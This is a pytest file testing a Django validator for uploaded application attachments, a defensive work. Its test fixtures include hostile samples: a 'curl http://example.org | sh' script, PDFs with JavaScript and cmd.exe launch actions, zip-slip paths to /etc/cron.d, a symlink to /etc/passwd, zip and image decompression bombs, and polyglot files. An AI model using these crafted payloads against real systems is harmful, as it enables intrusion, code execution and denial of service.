"""Upload checks of the candidacy attachments: every sample is built here."""

import hashlib
import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import Image

from applications.uploads import (
    CONTENT_TYPES,
    MESSAGES,
    CheckedUpload,
    check_upload,
    safe_filename,
)

MAX = 5 * 1024 * 1024

# ---------------------------------------------------------------------------
# Samples
# ---------------------------------------------------------------------------


def make_pdf(*extra_objects: bytes, trailer_extra: bytes = b"") -> bytes:
    """A minimal, well-formed one-page PDF with a correct xref table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 712 Td (Bonjour) Tj ET\nendstream",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer_extra,
        xref,
    )
    return bytes(out)


def make_object_stream_pdf(dictionaries: bytes, *, encrypted: bool = False) -> bytes:
    """A PDF whose extra objects sit in a compressed object stream (PDF 1.5)."""
    body = zlib.compress(b"5 0 " + dictionaries)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n" % (
        len(body)
    )
    stream += b"stream\n" + body + b"\nendstream"
    extra = b"/Encrypt << /Filter /Standard /V 2 >> " if encrypted else b""
    return make_pdf(stream, trailer_extra=extra)


def make_image(fmt: str, size=(64, 48)) -> bytes:
    image = Image.new("RGB", size, (0, 0, 145))
    for x in range(size[0] // 3, size[0]):
        for y in range(size[1]):
            image.putpixel(
                (x, y), (255, 255, 255) if x < 2 * size[0] // 3 else (225, 0, 15)
            )
    buffer = io.BytesIO()
    image.save(buffer, fmt)
    return buffer.getvalue()


def png_chunk(chunk_type: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(chunk_type + data)
    return struct.pack(">I", len(data)) + chunk_type + data + struct.pack(">I", crc)


def make_png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares huge dimensions (decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


CONTENT_TYPES_XML = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
RELS_XML = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
DOCUMENT_XML = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
    b'2006/main"><w:body><w:p><w:r><w:t>Dossier de candidature</w:t></w:r>'
    b"</w:p></w:body></w:document>"
)
ODT_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:'
    b'xmlns:manifest:1.0" manifest:version="1.3">'
    b'<manifest:file-entry manifest:full-path="/" manifest:media-type='
    b'"application/vnd.oasis.opendocument.text"/>'
    b'<manifest:file-entry manifest:full-path="content.xml" '
    b'manifest:media-type="text/xml"/></manifest:manifest>'
)
ODT_CONTENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
    b'xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:'
    b'text:1.0" office:version="1.3"><office:body><office:text><text:p>'
    b"Dossier de candidature</text:p></office:text></office:body>"
    b"</office:document-content>"
)


def make_zip(entries, *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            if stored_first and index == 0:
                archive.writestr(name, data, compress_type=zipfile.ZIP_STORED)
            else:
                archive.writestr(name, data)
    return buffer.getvalue()


def docx_entries(content_types=CONTENT_TYPES_XML):
    return [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", RELS_XML),
        ("word/document.xml", DOCUMENT_XML),
    ]


def make_docx(*extra, content_types=CONTENT_TYPES_XML) -> bytes:
    return make_zip([*docx_entries(content_types), *extra])


def make_odt(*extra, compress_mimetype: bool = False) -> bytes:
    entries = [
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", ODT_CONTENT),
        ("META-INF/manifest.xml", ODT_MANIFEST),
        *extra,
    ]
    return make_zip(entries, stored_first=not compress_mimetype)


def make_xlsx(*extra) -> bytes:
    types = CONTENT_TYPES_XML.replace(
        b"/word/document.xml", b"/xl/workbook.xml"
    ).replace(b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")
    return make_zip(
        [("[Content_Types].xml", types), ("xl/workbook.xml", b"<workbook/>"), *extra]
    )


def patch_central_directory(data: bytes, offset: int, fmt: str, value: int) -> bytes:
    """Overwrite a field of every central directory record."""
    out = bytearray(data)
    position = out.find(b"PK\x01\x02")
    while position >= 0:
        struct.pack_into(fmt, out, position + offset, value)
        position = out.find(b"PK\x01\x02", position + 4)
    return bytes(out)


PDF = make_pdf()
PNG = make_image("PNG")
JPEG = make_image("JPEG")
DOCX = make_docx()
ODT = make_odt()
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


@pytest.fixture(scope="module")
def zip_bomb_docx() -> bytes:
    """A DOCX with one entry of 200 MB of zeros, written in chunks (≈ 1 MB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in docx_entries():
            zf.writestr(name, data)
        with zf.open("word/media/image1.png", "w", force_zip64=True) as entry:
            chunk = bytes(1024 * 1024)
            for _ in range(200):
                entry.write(chunk)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def refused(name: str, content: bytes, *, max_bytes: int = MAX) -> ValidationError:
    file = upload(name, content)
    with pytest.raises(ValidationError) as caught:
        check_upload(file, max_bytes=max_bytes)
    assert file.tell() == 0
    return caught.value


# ---------------------------------------------------------------------------
# Accepted
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, content, kind, safe_name",
    [
        ("Dossier de candidature.pdf", PDF, "pdf", "Dossier de candidature.pdf"),
        ("Délibération.ODT", ODT, "odt", "Délibération.odt"),
        ("Budget prévisionnel.docx", DOCX, "docx", "Budget prévisionnel.docx"),
        ("carte.png", PNG, "png", "carte.png"),
        ("photo.JPG", JPEG, "jpeg", "photo.jpg"),
        ("photo.jpeg", JPEG, "jpeg", "photo.jpeg"),
    ],
)
def test_valid_files_are_accepted(name, content, kind, safe_name):
    file = upload(name, content, content_type="application/octet-stream")
    result = check_upload(file, max_bytes=MAX)
    assert result == CheckedUpload(
        kind=kind,
        content_type=CONTENT_TYPES[kind],
        safe_name=safe_name,
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
    )
    assert file.tell() == 0
    assert file.read() == content


def test_content_types_are_canonical():
    assert CONTENT_TYPES == {
        "pdf": "application/pdf",
        "odt": "application/vnd.oasis.opendocument.text",
        "docx": (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
        ),
        "png": "image/png",
        "jpeg": "image/jpeg",
    }


def test_temporary_uploaded_file_is_read_and_rewound():
    file = TemporaryUploadedFile("rapport.pdf", "application/pdf", len(PDF), None)
    file.write(PDF)
    file.flush()
    try:
        result = check_upload(file, max_bytes=MAX)
        assert result.kind == "pdf"
        assert result.sha256 == hashlib.sha256(PDF).hexdigest()
        assert file.tell() == 0
    finally:
        file.close()


def test_browser_content_type_is_ignored():
    file = upload("carte.png", PNG, content_type="application/x-msdownload")
    assert check_upload(file, max_bytes=MAX).content_type == "image/png"


def test_path_traversal_name_keeps_only_the_base_name():
    result = check_upload(upload("../../etc/passwd.pdf", PDF), max_bytes=MAX)
    assert result.safe_name == "passwd.pdf"
    # Django keeps backslashes on POSIX; they are separators for Windows users.
    windows = upload("..\\..\\Windows\\System32\\rapport.pdf", PDF)
    assert check_upload(windows, max_bytes=MAX).safe_name == "rapport.pdf"


def test_name_with_invisible_characters_is_cleaned():
    # U+202E (right-to-left override) would show "rapport‮fdp.exe" reversed.
    result = check_upload(upload("rap\u202eport\t\x07 final .pdf", PDF), max_bytes=MAX)
    assert result.safe_name == "rapport final.pdf"


def test_pdf_with_a_little_padding_after_eof_is_accepted():
    assert check_upload(upload("a.pdf", PDF + b"\r\n\x00\x00\n"), max_bytes=MAX)


def test_pdf_whose_binary_streams_contain_short_names_is_accepted():
    # "/JS" in compressed data (an image) is not a dictionary key.
    image = (
        b"<< /Length 12 /Filter /DCTDecode >>\n"
        b"stream\n\xff\xd8\x00/JS \x10\xff\x00\xff\xd9\nendstream"
    )
    assert check_upload(upload("a.pdf", make_pdf(image)), max_bytes=MAX).kind == "pdf"


def test_pdf_with_clean_object_stream_is_accepted():
    pdf = make_object_stream_pdf(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    )
    assert check_upload(upload("a.pdf", pdf), max_bytes=MAX).kind == "pdf"


def test_docx_with_embedded_chart_workbook_is_accepted():
    docx = make_docx(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", make_xlsx()))
    assert check_upload(upload("a.docx", docx), max_bytes=MAX).kind == "docx"


def test_jpeg_with_zero_padding_after_the_end_is_accepted():
    padded = JPEG + b"\x00" * 4096
    assert check_upload(upload("photo.jpg", padded), max_bytes=MAX).kind == "jpeg"


class Unseekable(io.RawIOBase):
    """An output zipfile cannot seek in: it then writes data descriptors."""

    def __init__(self):
        self.content = bytearray()

    def writable(self):
        return True

    def write(self, data):
        self.content += data
        return len(data)


def test_docx_written_with_data_descriptors_is_accepted():
    output = Unseekable()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in docx_entries():
            archive.writestr(name, data)
    docx = bytes(output.content)
    assert b"PK\x07\x08" in docx
    assert check_upload(upload("a.docx", docx), max_bytes=MAX).kind == "docx"


def test_docx_with_embedded_font_starting_with_mz_is_accepted():
    # Obfuscated fonts start with random bytes: "MZ" alone is not a program.
    font = b"MZ" + bytes(range(256)) * 4
    docx = make_docx(("word/fonts/font1.odttf", font))
    assert check_upload(upload("a.docx", docx), max_bytes=MAX).kind == "docx"


def test_size_exactly_at_the_limit_is_accepted():
    assert check_upload(upload("a.pdf", PDF), max_bytes=len(PDF)).size == len(PDF)


# ---------------------------------------------------------------------------
# Refused: size and names
# ---------------------------------------------------------------------------


def test_empty_file_is_refused():
    error = refused("vide.pdf", b"")
    assert error.code == "empty"
    assert error.messages == ["Le fichier « vide.pdf » est vide."]


def test_file_over_the_limit_is_refused_with_the_limit_in_mo():
    big = PDF + b"%" + b"x" * 3 * 1024 * 1024
    error = refused("gros.pdf", big, max_bytes=2 * 1024 * 1024)
    assert error.code == "too_large"
    assert error.messages == [
        "Le fichier « gros.pdf » est trop volumineux (3,1 Mo) : la taille maximale "
        "est de 2 Mo."
    ]


def test_size_just_over_the_limit_never_reads_as_the_limit():
    error = refused("gros.pdf", PDF + b" " * 10, max_bytes=len(PDF) + 9)
    assert error.code == "too_large"
    assert error.params["size"] == "0,1"
    assert error.params["limit"] == "0"


def test_limit_is_enforced_on_the_content_not_only_on_the_declared_size():
    file = upload("gros.pdf", PDF)
    file.size = 10  # a lying size
    with pytest.raises(ValidationError) as caught:
        check_upload(file, max_bytes=len(PDF) - 1)
    assert caught.value.code == "too_large"
    assert file.tell() == 0


def test_name_with_a_null_byte_is_refused():
    error = refused("rapport.pdf\x00.exe", PDF)
    assert error.code == "name_null_byte"
    assert "caractère nul" in error.messages[0]
    assert "\x00" not in error.messages[0]


def test_ten_thousand_character_name_is_refused_not_truncated():
    error = refused("a" * 10_000 + ".pdf", PDF)
    assert error.code == "name_too_long"
    assert "trop long" in error.messages[0]
    assert "255" in error.messages[0]
    assert "aaaa" not in error.messages[0]


def test_name_too_long_even_when_the_upload_object_keeps_it_whole():
    class Upload:
        name = "b" * 10_000 + ".pdf"
        size = len(PDF)

    with pytest.raises(ValidationError) as caught:
        check_upload(Upload(), max_bytes=MAX)
    assert caught.value.code == "name_too_long"


# ---------------------------------------------------------------------------
# Refused: not one of the accepted formats
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, content, code",
    [
        ("facture.pdf", EXE, "executable"),
        ("facture.pdf", ELF, "executable"),
        (
            "facture.pdf",
            b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64,
            "executable",
        ),
        ("script.pdf", b"#!/bin/sh\ncurl http://example.org | sh\n", "executable"),
        ("page.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script>", "markup"),
        ("page.pdf", b"\xef\xbb\xbf  <HTML><body>Bonjour</body></HTML>", "markup"),
        (
            "logo.png",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "markup",
        ),
        ("data.pdf", b'<?xml version="1.0"?><dossier/>', "markup"),
        (
            "ancien.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,
            "legacy_office",
        ),
        ("notes.pdf", b"Ceci est un simple texte.\n", "unsupported_type"),
        ("image.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "unsupported_type"),
    ],
)
def test_other_formats_are_refused(name, content, code):
    error = refused(name, content)
    assert error.code == code
    assert f"« {name} »" in error.messages[0]


def test_unknown_content_message_is_readable():
    error = refused("notes.pdf", b"Ceci est un simple texte.\n")
    assert error.messages == [
        "Le fichier « notes.pdf » n'est pas un PDF, ODT, DOCX, PNG ou JPEG valide : "
        "son contenu ne correspond à aucun de ces formats."
    ]


def test_executable_message_says_it_is_a_program():
    error = refused("facture.pdf", EXE)
    assert "programme" in error.messages[0]


@pytest.mark.parametrize(
    "name, content",
    [
        ("archive.docx", make_zip([("rapport.txt", b"Bonjour")])),
        ("tableur.docx", make_xlsx()),
        (
            "classeur.odt",
            make_zip(
                [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")],
                stored_first=True,
            ),
        ),
        (
            "modele.docx",
            make_docx(
                content_types=CONTENT_TYPES_XML.replace(
                    b"document.main+xml", b"template.main+xml"
                )
            ),
        ),
    ],
)
def test_zip_that_is_not_a_text_document_is_refused(name, content):
    assert refused(name, content).code == "unsupported_archive"


# ---------------------------------------------------------------------------
# Refused: extension
# ---------------------------------------------------------------------------


def test_real_pdf_named_docx_is_refused_for_its_extension():
    error = refused("rapport.docx", PDF)
    assert error.code == "extension_mismatch"
    assert error.messages == [
        "L'extension du fichier « rapport.docx » ne correspond pas à son contenu : "
        "c'est un PDF, son nom doit donc se terminer par « .pdf »."
    ]


@pytest.mark.parametrize(
    "name, content",
    [
        ("rapport", PDF),
        ("photo.png", JPEG),
        ("carte.jpg", PNG),
        ("document.odt", DOCX),
        ("document.docx", ODT),
        ("rapport.pdf.exe", PDF),
    ],
)
def test_extension_must_match_the_content(name, content):
    error = refused(name, content)
    assert error.code == "extension_mismatch"
    assert "ne correspond pas à son contenu" in error.messages[0]


# ---------------------------------------------------------------------------
# Refused: polyglots and hidden data
# ---------------------------------------------------------------------------

APPENDED_ZIP = make_zip([("payload.js", b"alert(1)")])


@pytest.mark.parametrize(
    "name, content",
    [
        ("rapport.pdf", PDF + APPENDED_ZIP),
        ("carte.png", PNG + APPENDED_ZIP),
        ("photo.jpg", JPEG + APPENDED_ZIP),
        (
            "carte.png",
            PNG[:-12] + png_chunk(b"tEXt", b"c\x00<script>x()</script>") + PNG[-12:],
        ),
        ("photo.jpg", JPEG[:2] + b"\xff\xfe\x00\x10<html><b>x</b>" + JPEG[2:]),
        ("photo.jpg", JPEG[:2] + b"\xff\xfe\x00\x0a%PDF-1.4" + JPEG[2:]),
        ("rapport.pdf", PDF.replace(b"%\xe2\xe3", b"%<script>a()</script>\n%\xe2\xe3")),
        (
            "rapport.pdf",
            make_pdf(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(EXE), EXE)),
        ),
    ],
)
def test_polyglots_are_refused(name, content):
    error = refused(name, content)
    assert error.code == "polyglot"
    assert "autre format" in error.messages[0]


@pytest.mark.parametrize(
    "name, content",
    [
        ("photo.jpg", JPEG + b"A" * 100),
        ("carte.png", PNG + b"B" * 100),
        ("rapport.pdf", PDF + b"C" * 100),
        ("document.docx", DOCX + b"D" * 100),
    ],
)
def test_data_after_the_end_is_refused(name, content):
    error = refused(name, content)
    assert error.code == "hidden_data"
    assert "données inconnues" in error.messages[0]


def test_data_between_zip_entries_is_refused():
    first = DOCX.find(b"PK\x03\x04", 4)
    hidden = DOCX[:first] + b"cache" + DOCX[first:]
    # Shift the offsets written in the central directory and the end record.
    archive = zipfile.ZipFile(io.BytesIO(DOCX))
    rebuilt = bytearray(hidden)
    position = rebuilt.find(b"PK\x01\x02")
    while position >= 0:
        (offset,) = struct.unpack_from("<I", rebuilt, position + 42)
        if offset >= first:
            struct.pack_into("<I", rebuilt, position + 42, offset + 5)
        position = rebuilt.find(b"PK\x01\x02", position + 4)
    eocd = rebuilt.rfind(b"PK\x05\x06")
    struct.pack_into("<I", rebuilt, eocd + 16, archive.start_dir + 5)
    assert zipfile.ZipFile(io.BytesIO(bytes(rebuilt))).testzip() is None
    assert refused("document.docx", bytes(rebuilt)).code == "hidden_data"


# ---------------------------------------------------------------------------
# Refused: PDF active content
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pdf",
    [
        make_pdf(b"<< /S /JavaScript /JS (app.alert('x')) >>"),
        make_pdf(b"<< /Type /Action /S /Launch /F (cmd.exe) >>"),
        make_pdf(b"<< /Names << /EmbeddedFiles << /Names [] >> >> >>"),
        make_pdf(b"<< /Type /EmbeddedFile /Length 0 >>"),
        make_pdf(b"<< /S /J#61vaScript /J#53 (x) >>"),
        make_pdf(b"<< /AA << /O << /JS 6 0 R >> >> >>"),
        make_object_stream_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        make_pdf(b"<< /Fields [] /XFA 6 0 R >>"),
    ],
    ids=[
        "javascript",
        "launch",
        "embedded-files",
        "embedded-file",
        "escaped",
        "js",
        "objstm",
        "xfa",
    ],
)
def test_pdf_with_active_content_is_refused(pdf):
    error = refused("rapport.pdf", pdf)
    assert error.code == "active_content"
    assert "contenu actif" in error.messages[0]


def test_pdf_with_short_active_name_hidden_in_object_stream_is_refused():
    # Only the inflated object stream shows "/JS"; raw bytes do not.
    pdf = make_object_stream_pdf(b"<< /AA << /O << /JS 7 0 R >> >> >>")
    assert b"/JS" not in pdf
    assert refused("rapport.pdf", pdf).code == "active_content"


def test_encrypted_pdf_with_object_streams_cannot_be_verified():
    pdf = make_object_stream_pdf(b"<< /Type /Font >>", encrypted=True)
    error = refused("protege.pdf", pdf)
    assert error.code == "pdf_unverifiable"
    assert "ne peut pas être vérifié" in error.messages[0]


def test_pdf_object_stream_with_unknown_filter_cannot_be_verified():
    pdf = make_pdf(
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 3 >>\n"
        b"stream\nabc\nendstream"
    )
    assert refused("rapport.pdf", pdf).code == "pdf_unverifiable"


@pytest.mark.parametrize(
    "content",
    [PDF[: PDF.rfind(b"%%EOF")], b"%PDF-1.7\n%%EOF\n"],
    ids=["truncated", "no-object"],
)
def test_broken_pdf_is_refused(content):
    error = refused("rapport.pdf", content)
    assert error.code == "corrupt"
    assert "endommagé" in error.messages[0]


# ---------------------------------------------------------------------------
# Refused: images
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, content",
    [
        ("carte.png", PNG[: len(PNG) // 2]),
        ("photo.jpg", JPEG[: len(JPEG) // 2]),
        ("photo.jpg", JPEG[:-2]),
        ("carte.png", PNG[:20] + b"\x00\x00\x00\x00" + PNG[24:]),  # bad IHDR checksum
    ],
)
def test_broken_images_are_refused(name, content):
    error = refused(name, content)
    assert error.code == "corrupt"
    assert "endommagé" in error.messages[0]


@pytest.mark.parametrize("side", [8_000, 100_000])
def test_image_decompression_bomb_is_refused(side):
    error = refused("carte.png", make_png_declaring(side, side))
    assert error.code == "image_too_large"
    assert "40 millions de pixels" in error.messages[0]


# ---------------------------------------------------------------------------
# Refused: DOCX and ODT
# ---------------------------------------------------------------------------


def test_zip_bomb_inside_docx_is_refused(zip_bomb_docx):
    assert len(zip_bomb_docx) < 2 * 1024 * 1024
    error = refused("bombe.docx", zip_bomb_docx)
    assert error.code == "zip_bomb"
    assert "bombe de décompression" in error.messages[0]


def test_zip_declaring_huge_sizes_is_refused():
    # Fake header: the central directory claims 3 GB for every entry.
    lying = patch_central_directory(DOCX, 24, "<I", 3_000_000_000)
    assert refused("bombe.docx", lying).code == "zip_bomb"


def test_zip_understating_its_sizes_is_refused():
    # The central directory claims 10 bytes: the checksum no longer matches.
    lying = patch_central_directory(DOCX, 24, "<I", 10)
    assert refused("document.docx", lying).code == "corrupt"


def test_zip_with_too_many_entries_is_refused():
    docx = make_docx(*((f"word/media/{i}.txt", b"") for i in range(1001)))
    error = refused("document.docx", docx)
    assert error.code == "zip_too_many_entries"
    assert "1000" in error.messages[0]


@pytest.mark.parametrize(
    "entry",
    [
        "../../evil.sh.txt",
        "word/../../evil.txt",
        "/etc/cron.d/evil",
        "C:/evil.txt",
        "..\\evil.txt",
    ],
)
def test_zip_slip_is_refused(entry):
    docx = make_docx((zipfile.ZipInfo(entry), b"x"))
    error = refused("document.docx", docx)
    assert error.code == "zip_unsafe_path"
    assert "chemin" in error.messages[0]


def test_zip_symlink_is_refused():
    link = zipfile.ZipInfo("word/media/link.png")
    link.external_attr = (0o120777 << 16) | 0x20
    docx = make_docx((link, b"/etc/passwd"))
    assert refused("document.docx", docx).code == "zip_unsafe_path"


@pytest.mark.parametrize(
    "entry, content",
    [
        ("word/media/inner.zip", APPENDED_ZIP),
        ("word/embeddings/other.docx", DOCX),
        ("word/media/image1.png", APPENDED_ZIP),  # a ZIP disguised as an image
        ("Object 1/inner.xlsx", make_xlsx()),
    ],
)
def test_nested_archives_are_refused(entry, content):
    error = refused("document.docx", make_docx((entry, content)))
    assert error.code == "zip_nested_archive"
    assert "autre archive" in error.messages[0]


@pytest.mark.parametrize(
    "entry, content",
    [
        ("word/media/setup.exe", b"harmless"),
        ("word/media/image1.png", EXE),
        ("word/embeddings/oleObject1.bin", b"\x00" * 100 + EXE),
    ],
)
def test_executables_inside_documents_are_refused(entry, content):
    error = refused("document.docx", make_docx((entry, content)))
    assert error.code == "zip_executable"
    assert "programme" in error.messages[0]


@pytest.mark.parametrize(
    "name, content",
    [
        ("macro.docx", make_docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))),
        (
            "macro.docx",
            make_docx(
                content_types=CONTENT_TYPES_XML.replace(
                    b"vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                    b"vnd.ms-word.document.macroEnabled.main",
                )
            ),
        ),
        ("activex.docx", make_docx(("word/activeX/activeX1.xml", b"<ax/>"))),
        (
            "graphique.docx",
            make_docx(
                (
                    "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                    make_xlsx(("xl/vbaProject.bin", b"macro")),
                )
            ),
        ),
        ("macro.odt", make_odt(("Basic/Standard/Module1.xml", b"<script/>"))),
    ],
    ids=["vbaproject", "macro-enabled", "activex", "embedded-xlsm", "odt-basic"],
)
def test_macro_enabled_documents_are_refused(name, content):
    error = refused(name, content)
    assert error.code == "macro"
    assert "macros" in error.messages[0]


def test_encrypted_zip_entries_are_refused():
    encrypted = patch_central_directory(DOCX, 8, "<H", 0x01)
    error = refused("document.docx", encrypted)
    assert error.code == "encrypted"
    assert "mot de passe" in error.messages[0]


def test_password_protected_odt_is_refused():
    manifest = ODT_MANIFEST.replace(
        b"</manifest:manifest>",
        b'<manifest:file-entry manifest:full-path="x"><manifest:encryption-data/>'
        b"</manifest:file-entry></manifest:manifest>",
    )
    odt = make_zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b"\x8f\x12encrypted"),
            ("META-INF/manifest.xml", manifest),
        ],
        stored_first=True,
    )
    assert refused("document.odt", odt).code == "encrypted"


@pytest.mark.parametrize(
    "name, content",
    [
        ("document.odt", make_odt(compress_mimetype=True)),
        (
            "document.odt",
            make_zip(
                [("mimetype", b"application/vnd.oasis.opendocument.text")],
                stored_first=True,
            ),
        ),
        ("document.docx", make_docx(content_types=b"<Types/>")),
        ("document.docx", DOCX[: len(DOCX) // 2]),
    ],
)
def test_broken_documents_are_refused(name, content):
    error = refused(name, content)
    assert error.code == "corrupt"
    assert "endommagé" in error.messages[0]


# ---------------------------------------------------------------------------
# Messages
# ---------------------------------------------------------------------------


def test_every_refusal_has_a_french_message():
    for code, message in MESSAGES.items():
        text = str(message)
        assert text.startswith(("Le ", "L'", "La ")), code
        assert text.endswith("."), code


def test_messages_echo_only_the_sanitised_name():
    error = refused("<img src=x>\u202e\n.pdf", EXE)
    assert error.code == "executable"
    assert "« _img src=x_.pdf »" in error.messages[0]
    assert "\u202e" not in error.messages[0]
    assert "\n" not in error.messages[0]


# ---------------------------------------------------------------------------
# safe_filename
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, expected",
    [
        ("Dossier de candidature.pdf", "Dossier de candidature.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\Élise\\Bureau\\budget.DOCX", "budget.docx"),
        ("  ...cache.pdf  ", "cache.pdf"),
        ("rapport\x00.pdf", "rapport.pdf"),
        ("a\x01b\x1fc\x7f.pdf", "abc.pdf"),
        ("Dossier   de\t\tcandidature\n.odt", "Dossier de candidature.odt"),
        ('re:port<>|?*".pdf', "re_port______.pdf"),
        ("e\u0301cole.pdf", "école.pdf"),  # NFD → NFC
        ("Île-de-France — 2024.pdf", "Île-de-France — 2024.pdf"),
        ("fact\u202eurefdp.exe", "facturefdp.exe"),
        ("zero\u200bwidth.pdf", "zerowidth.pdf"),
        ("", "document"),
        ("...", "document"),
        ("/", "document"),
        (".pdf", "pdf"),
        ("___.pdf", "document.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("rapport.", "rapport"),
        (None, "document"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name) == expected


@pytest.mark.parametrize(
    "name, kind, expected",
    [
        ("rapport.pdf", "pdf", "rapport.pdf"),
        ("rapport.PDF", "pdf", "rapport.pdf"),
        ("rapport.docx", "pdf", "rapport.pdf"),
        ("facture.exe", "pdf", "facture.pdf"),
        ("rapport", "odt", "rapport.odt"),
        ("scan 12.03.2024", "pdf", "scan 12.03.2024.pdf"),
        ("photo.jpeg", "jpeg", "photo.jpeg"),
        ("photo.png", "jpeg", "photo.jpg"),
        ("", "docx", "document.docx"),
        ("../..", "png", "document.png"),
        ("***", "pdf", "document.pdf"),
    ],
)
def test_safe_filename_forces_the_extension_of_the_kind(name, kind, expected):
    assert safe_filename(name, kind=kind) == expected


@pytest.mark.parametrize("max_length", [16, 50, 120])
def test_safe_filename_truncates_keeping_the_extension(max_length):
    result = safe_filename("é" * 500 + ".docx", max_length=max_length)
    assert len(result) == max_length
    assert result.endswith("é.docx")


def test_safe_filename_truncation_removes_trailing_spaces():
    assert safe_filename("a" * 14 + " b.pdf", max_length=19) == "a" * 14 + ".pdf"


def test_safe_filename_refuses_unknown_kind():
    with pytest.raises(ValueError):
        safe_filename("a.gif", kind="gif")


def zeros_entry(name: str, size: int = 2 * 1024 * 1024):
    """An entry of zeros compressing ≈ 1000:1 (a small decompression bomb)."""
    return (name, bytes(size))


def test_entry_compressing_too_well_is_refused():
    docx = make_docx(zeros_entry("word/media/image1.png"))
    assert len(docx) < 20_000
    assert refused("document.docx", docx).code == "zip_bomb"


def test_zip_bomb_inside_an_embedded_workbook_is_refused():
    workbook = make_xlsx(zeros_entry("xl/media/image1.png"))
    docx = make_docx(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook))
    assert refused("graphique.docx", docx).code == "zip_bomb"
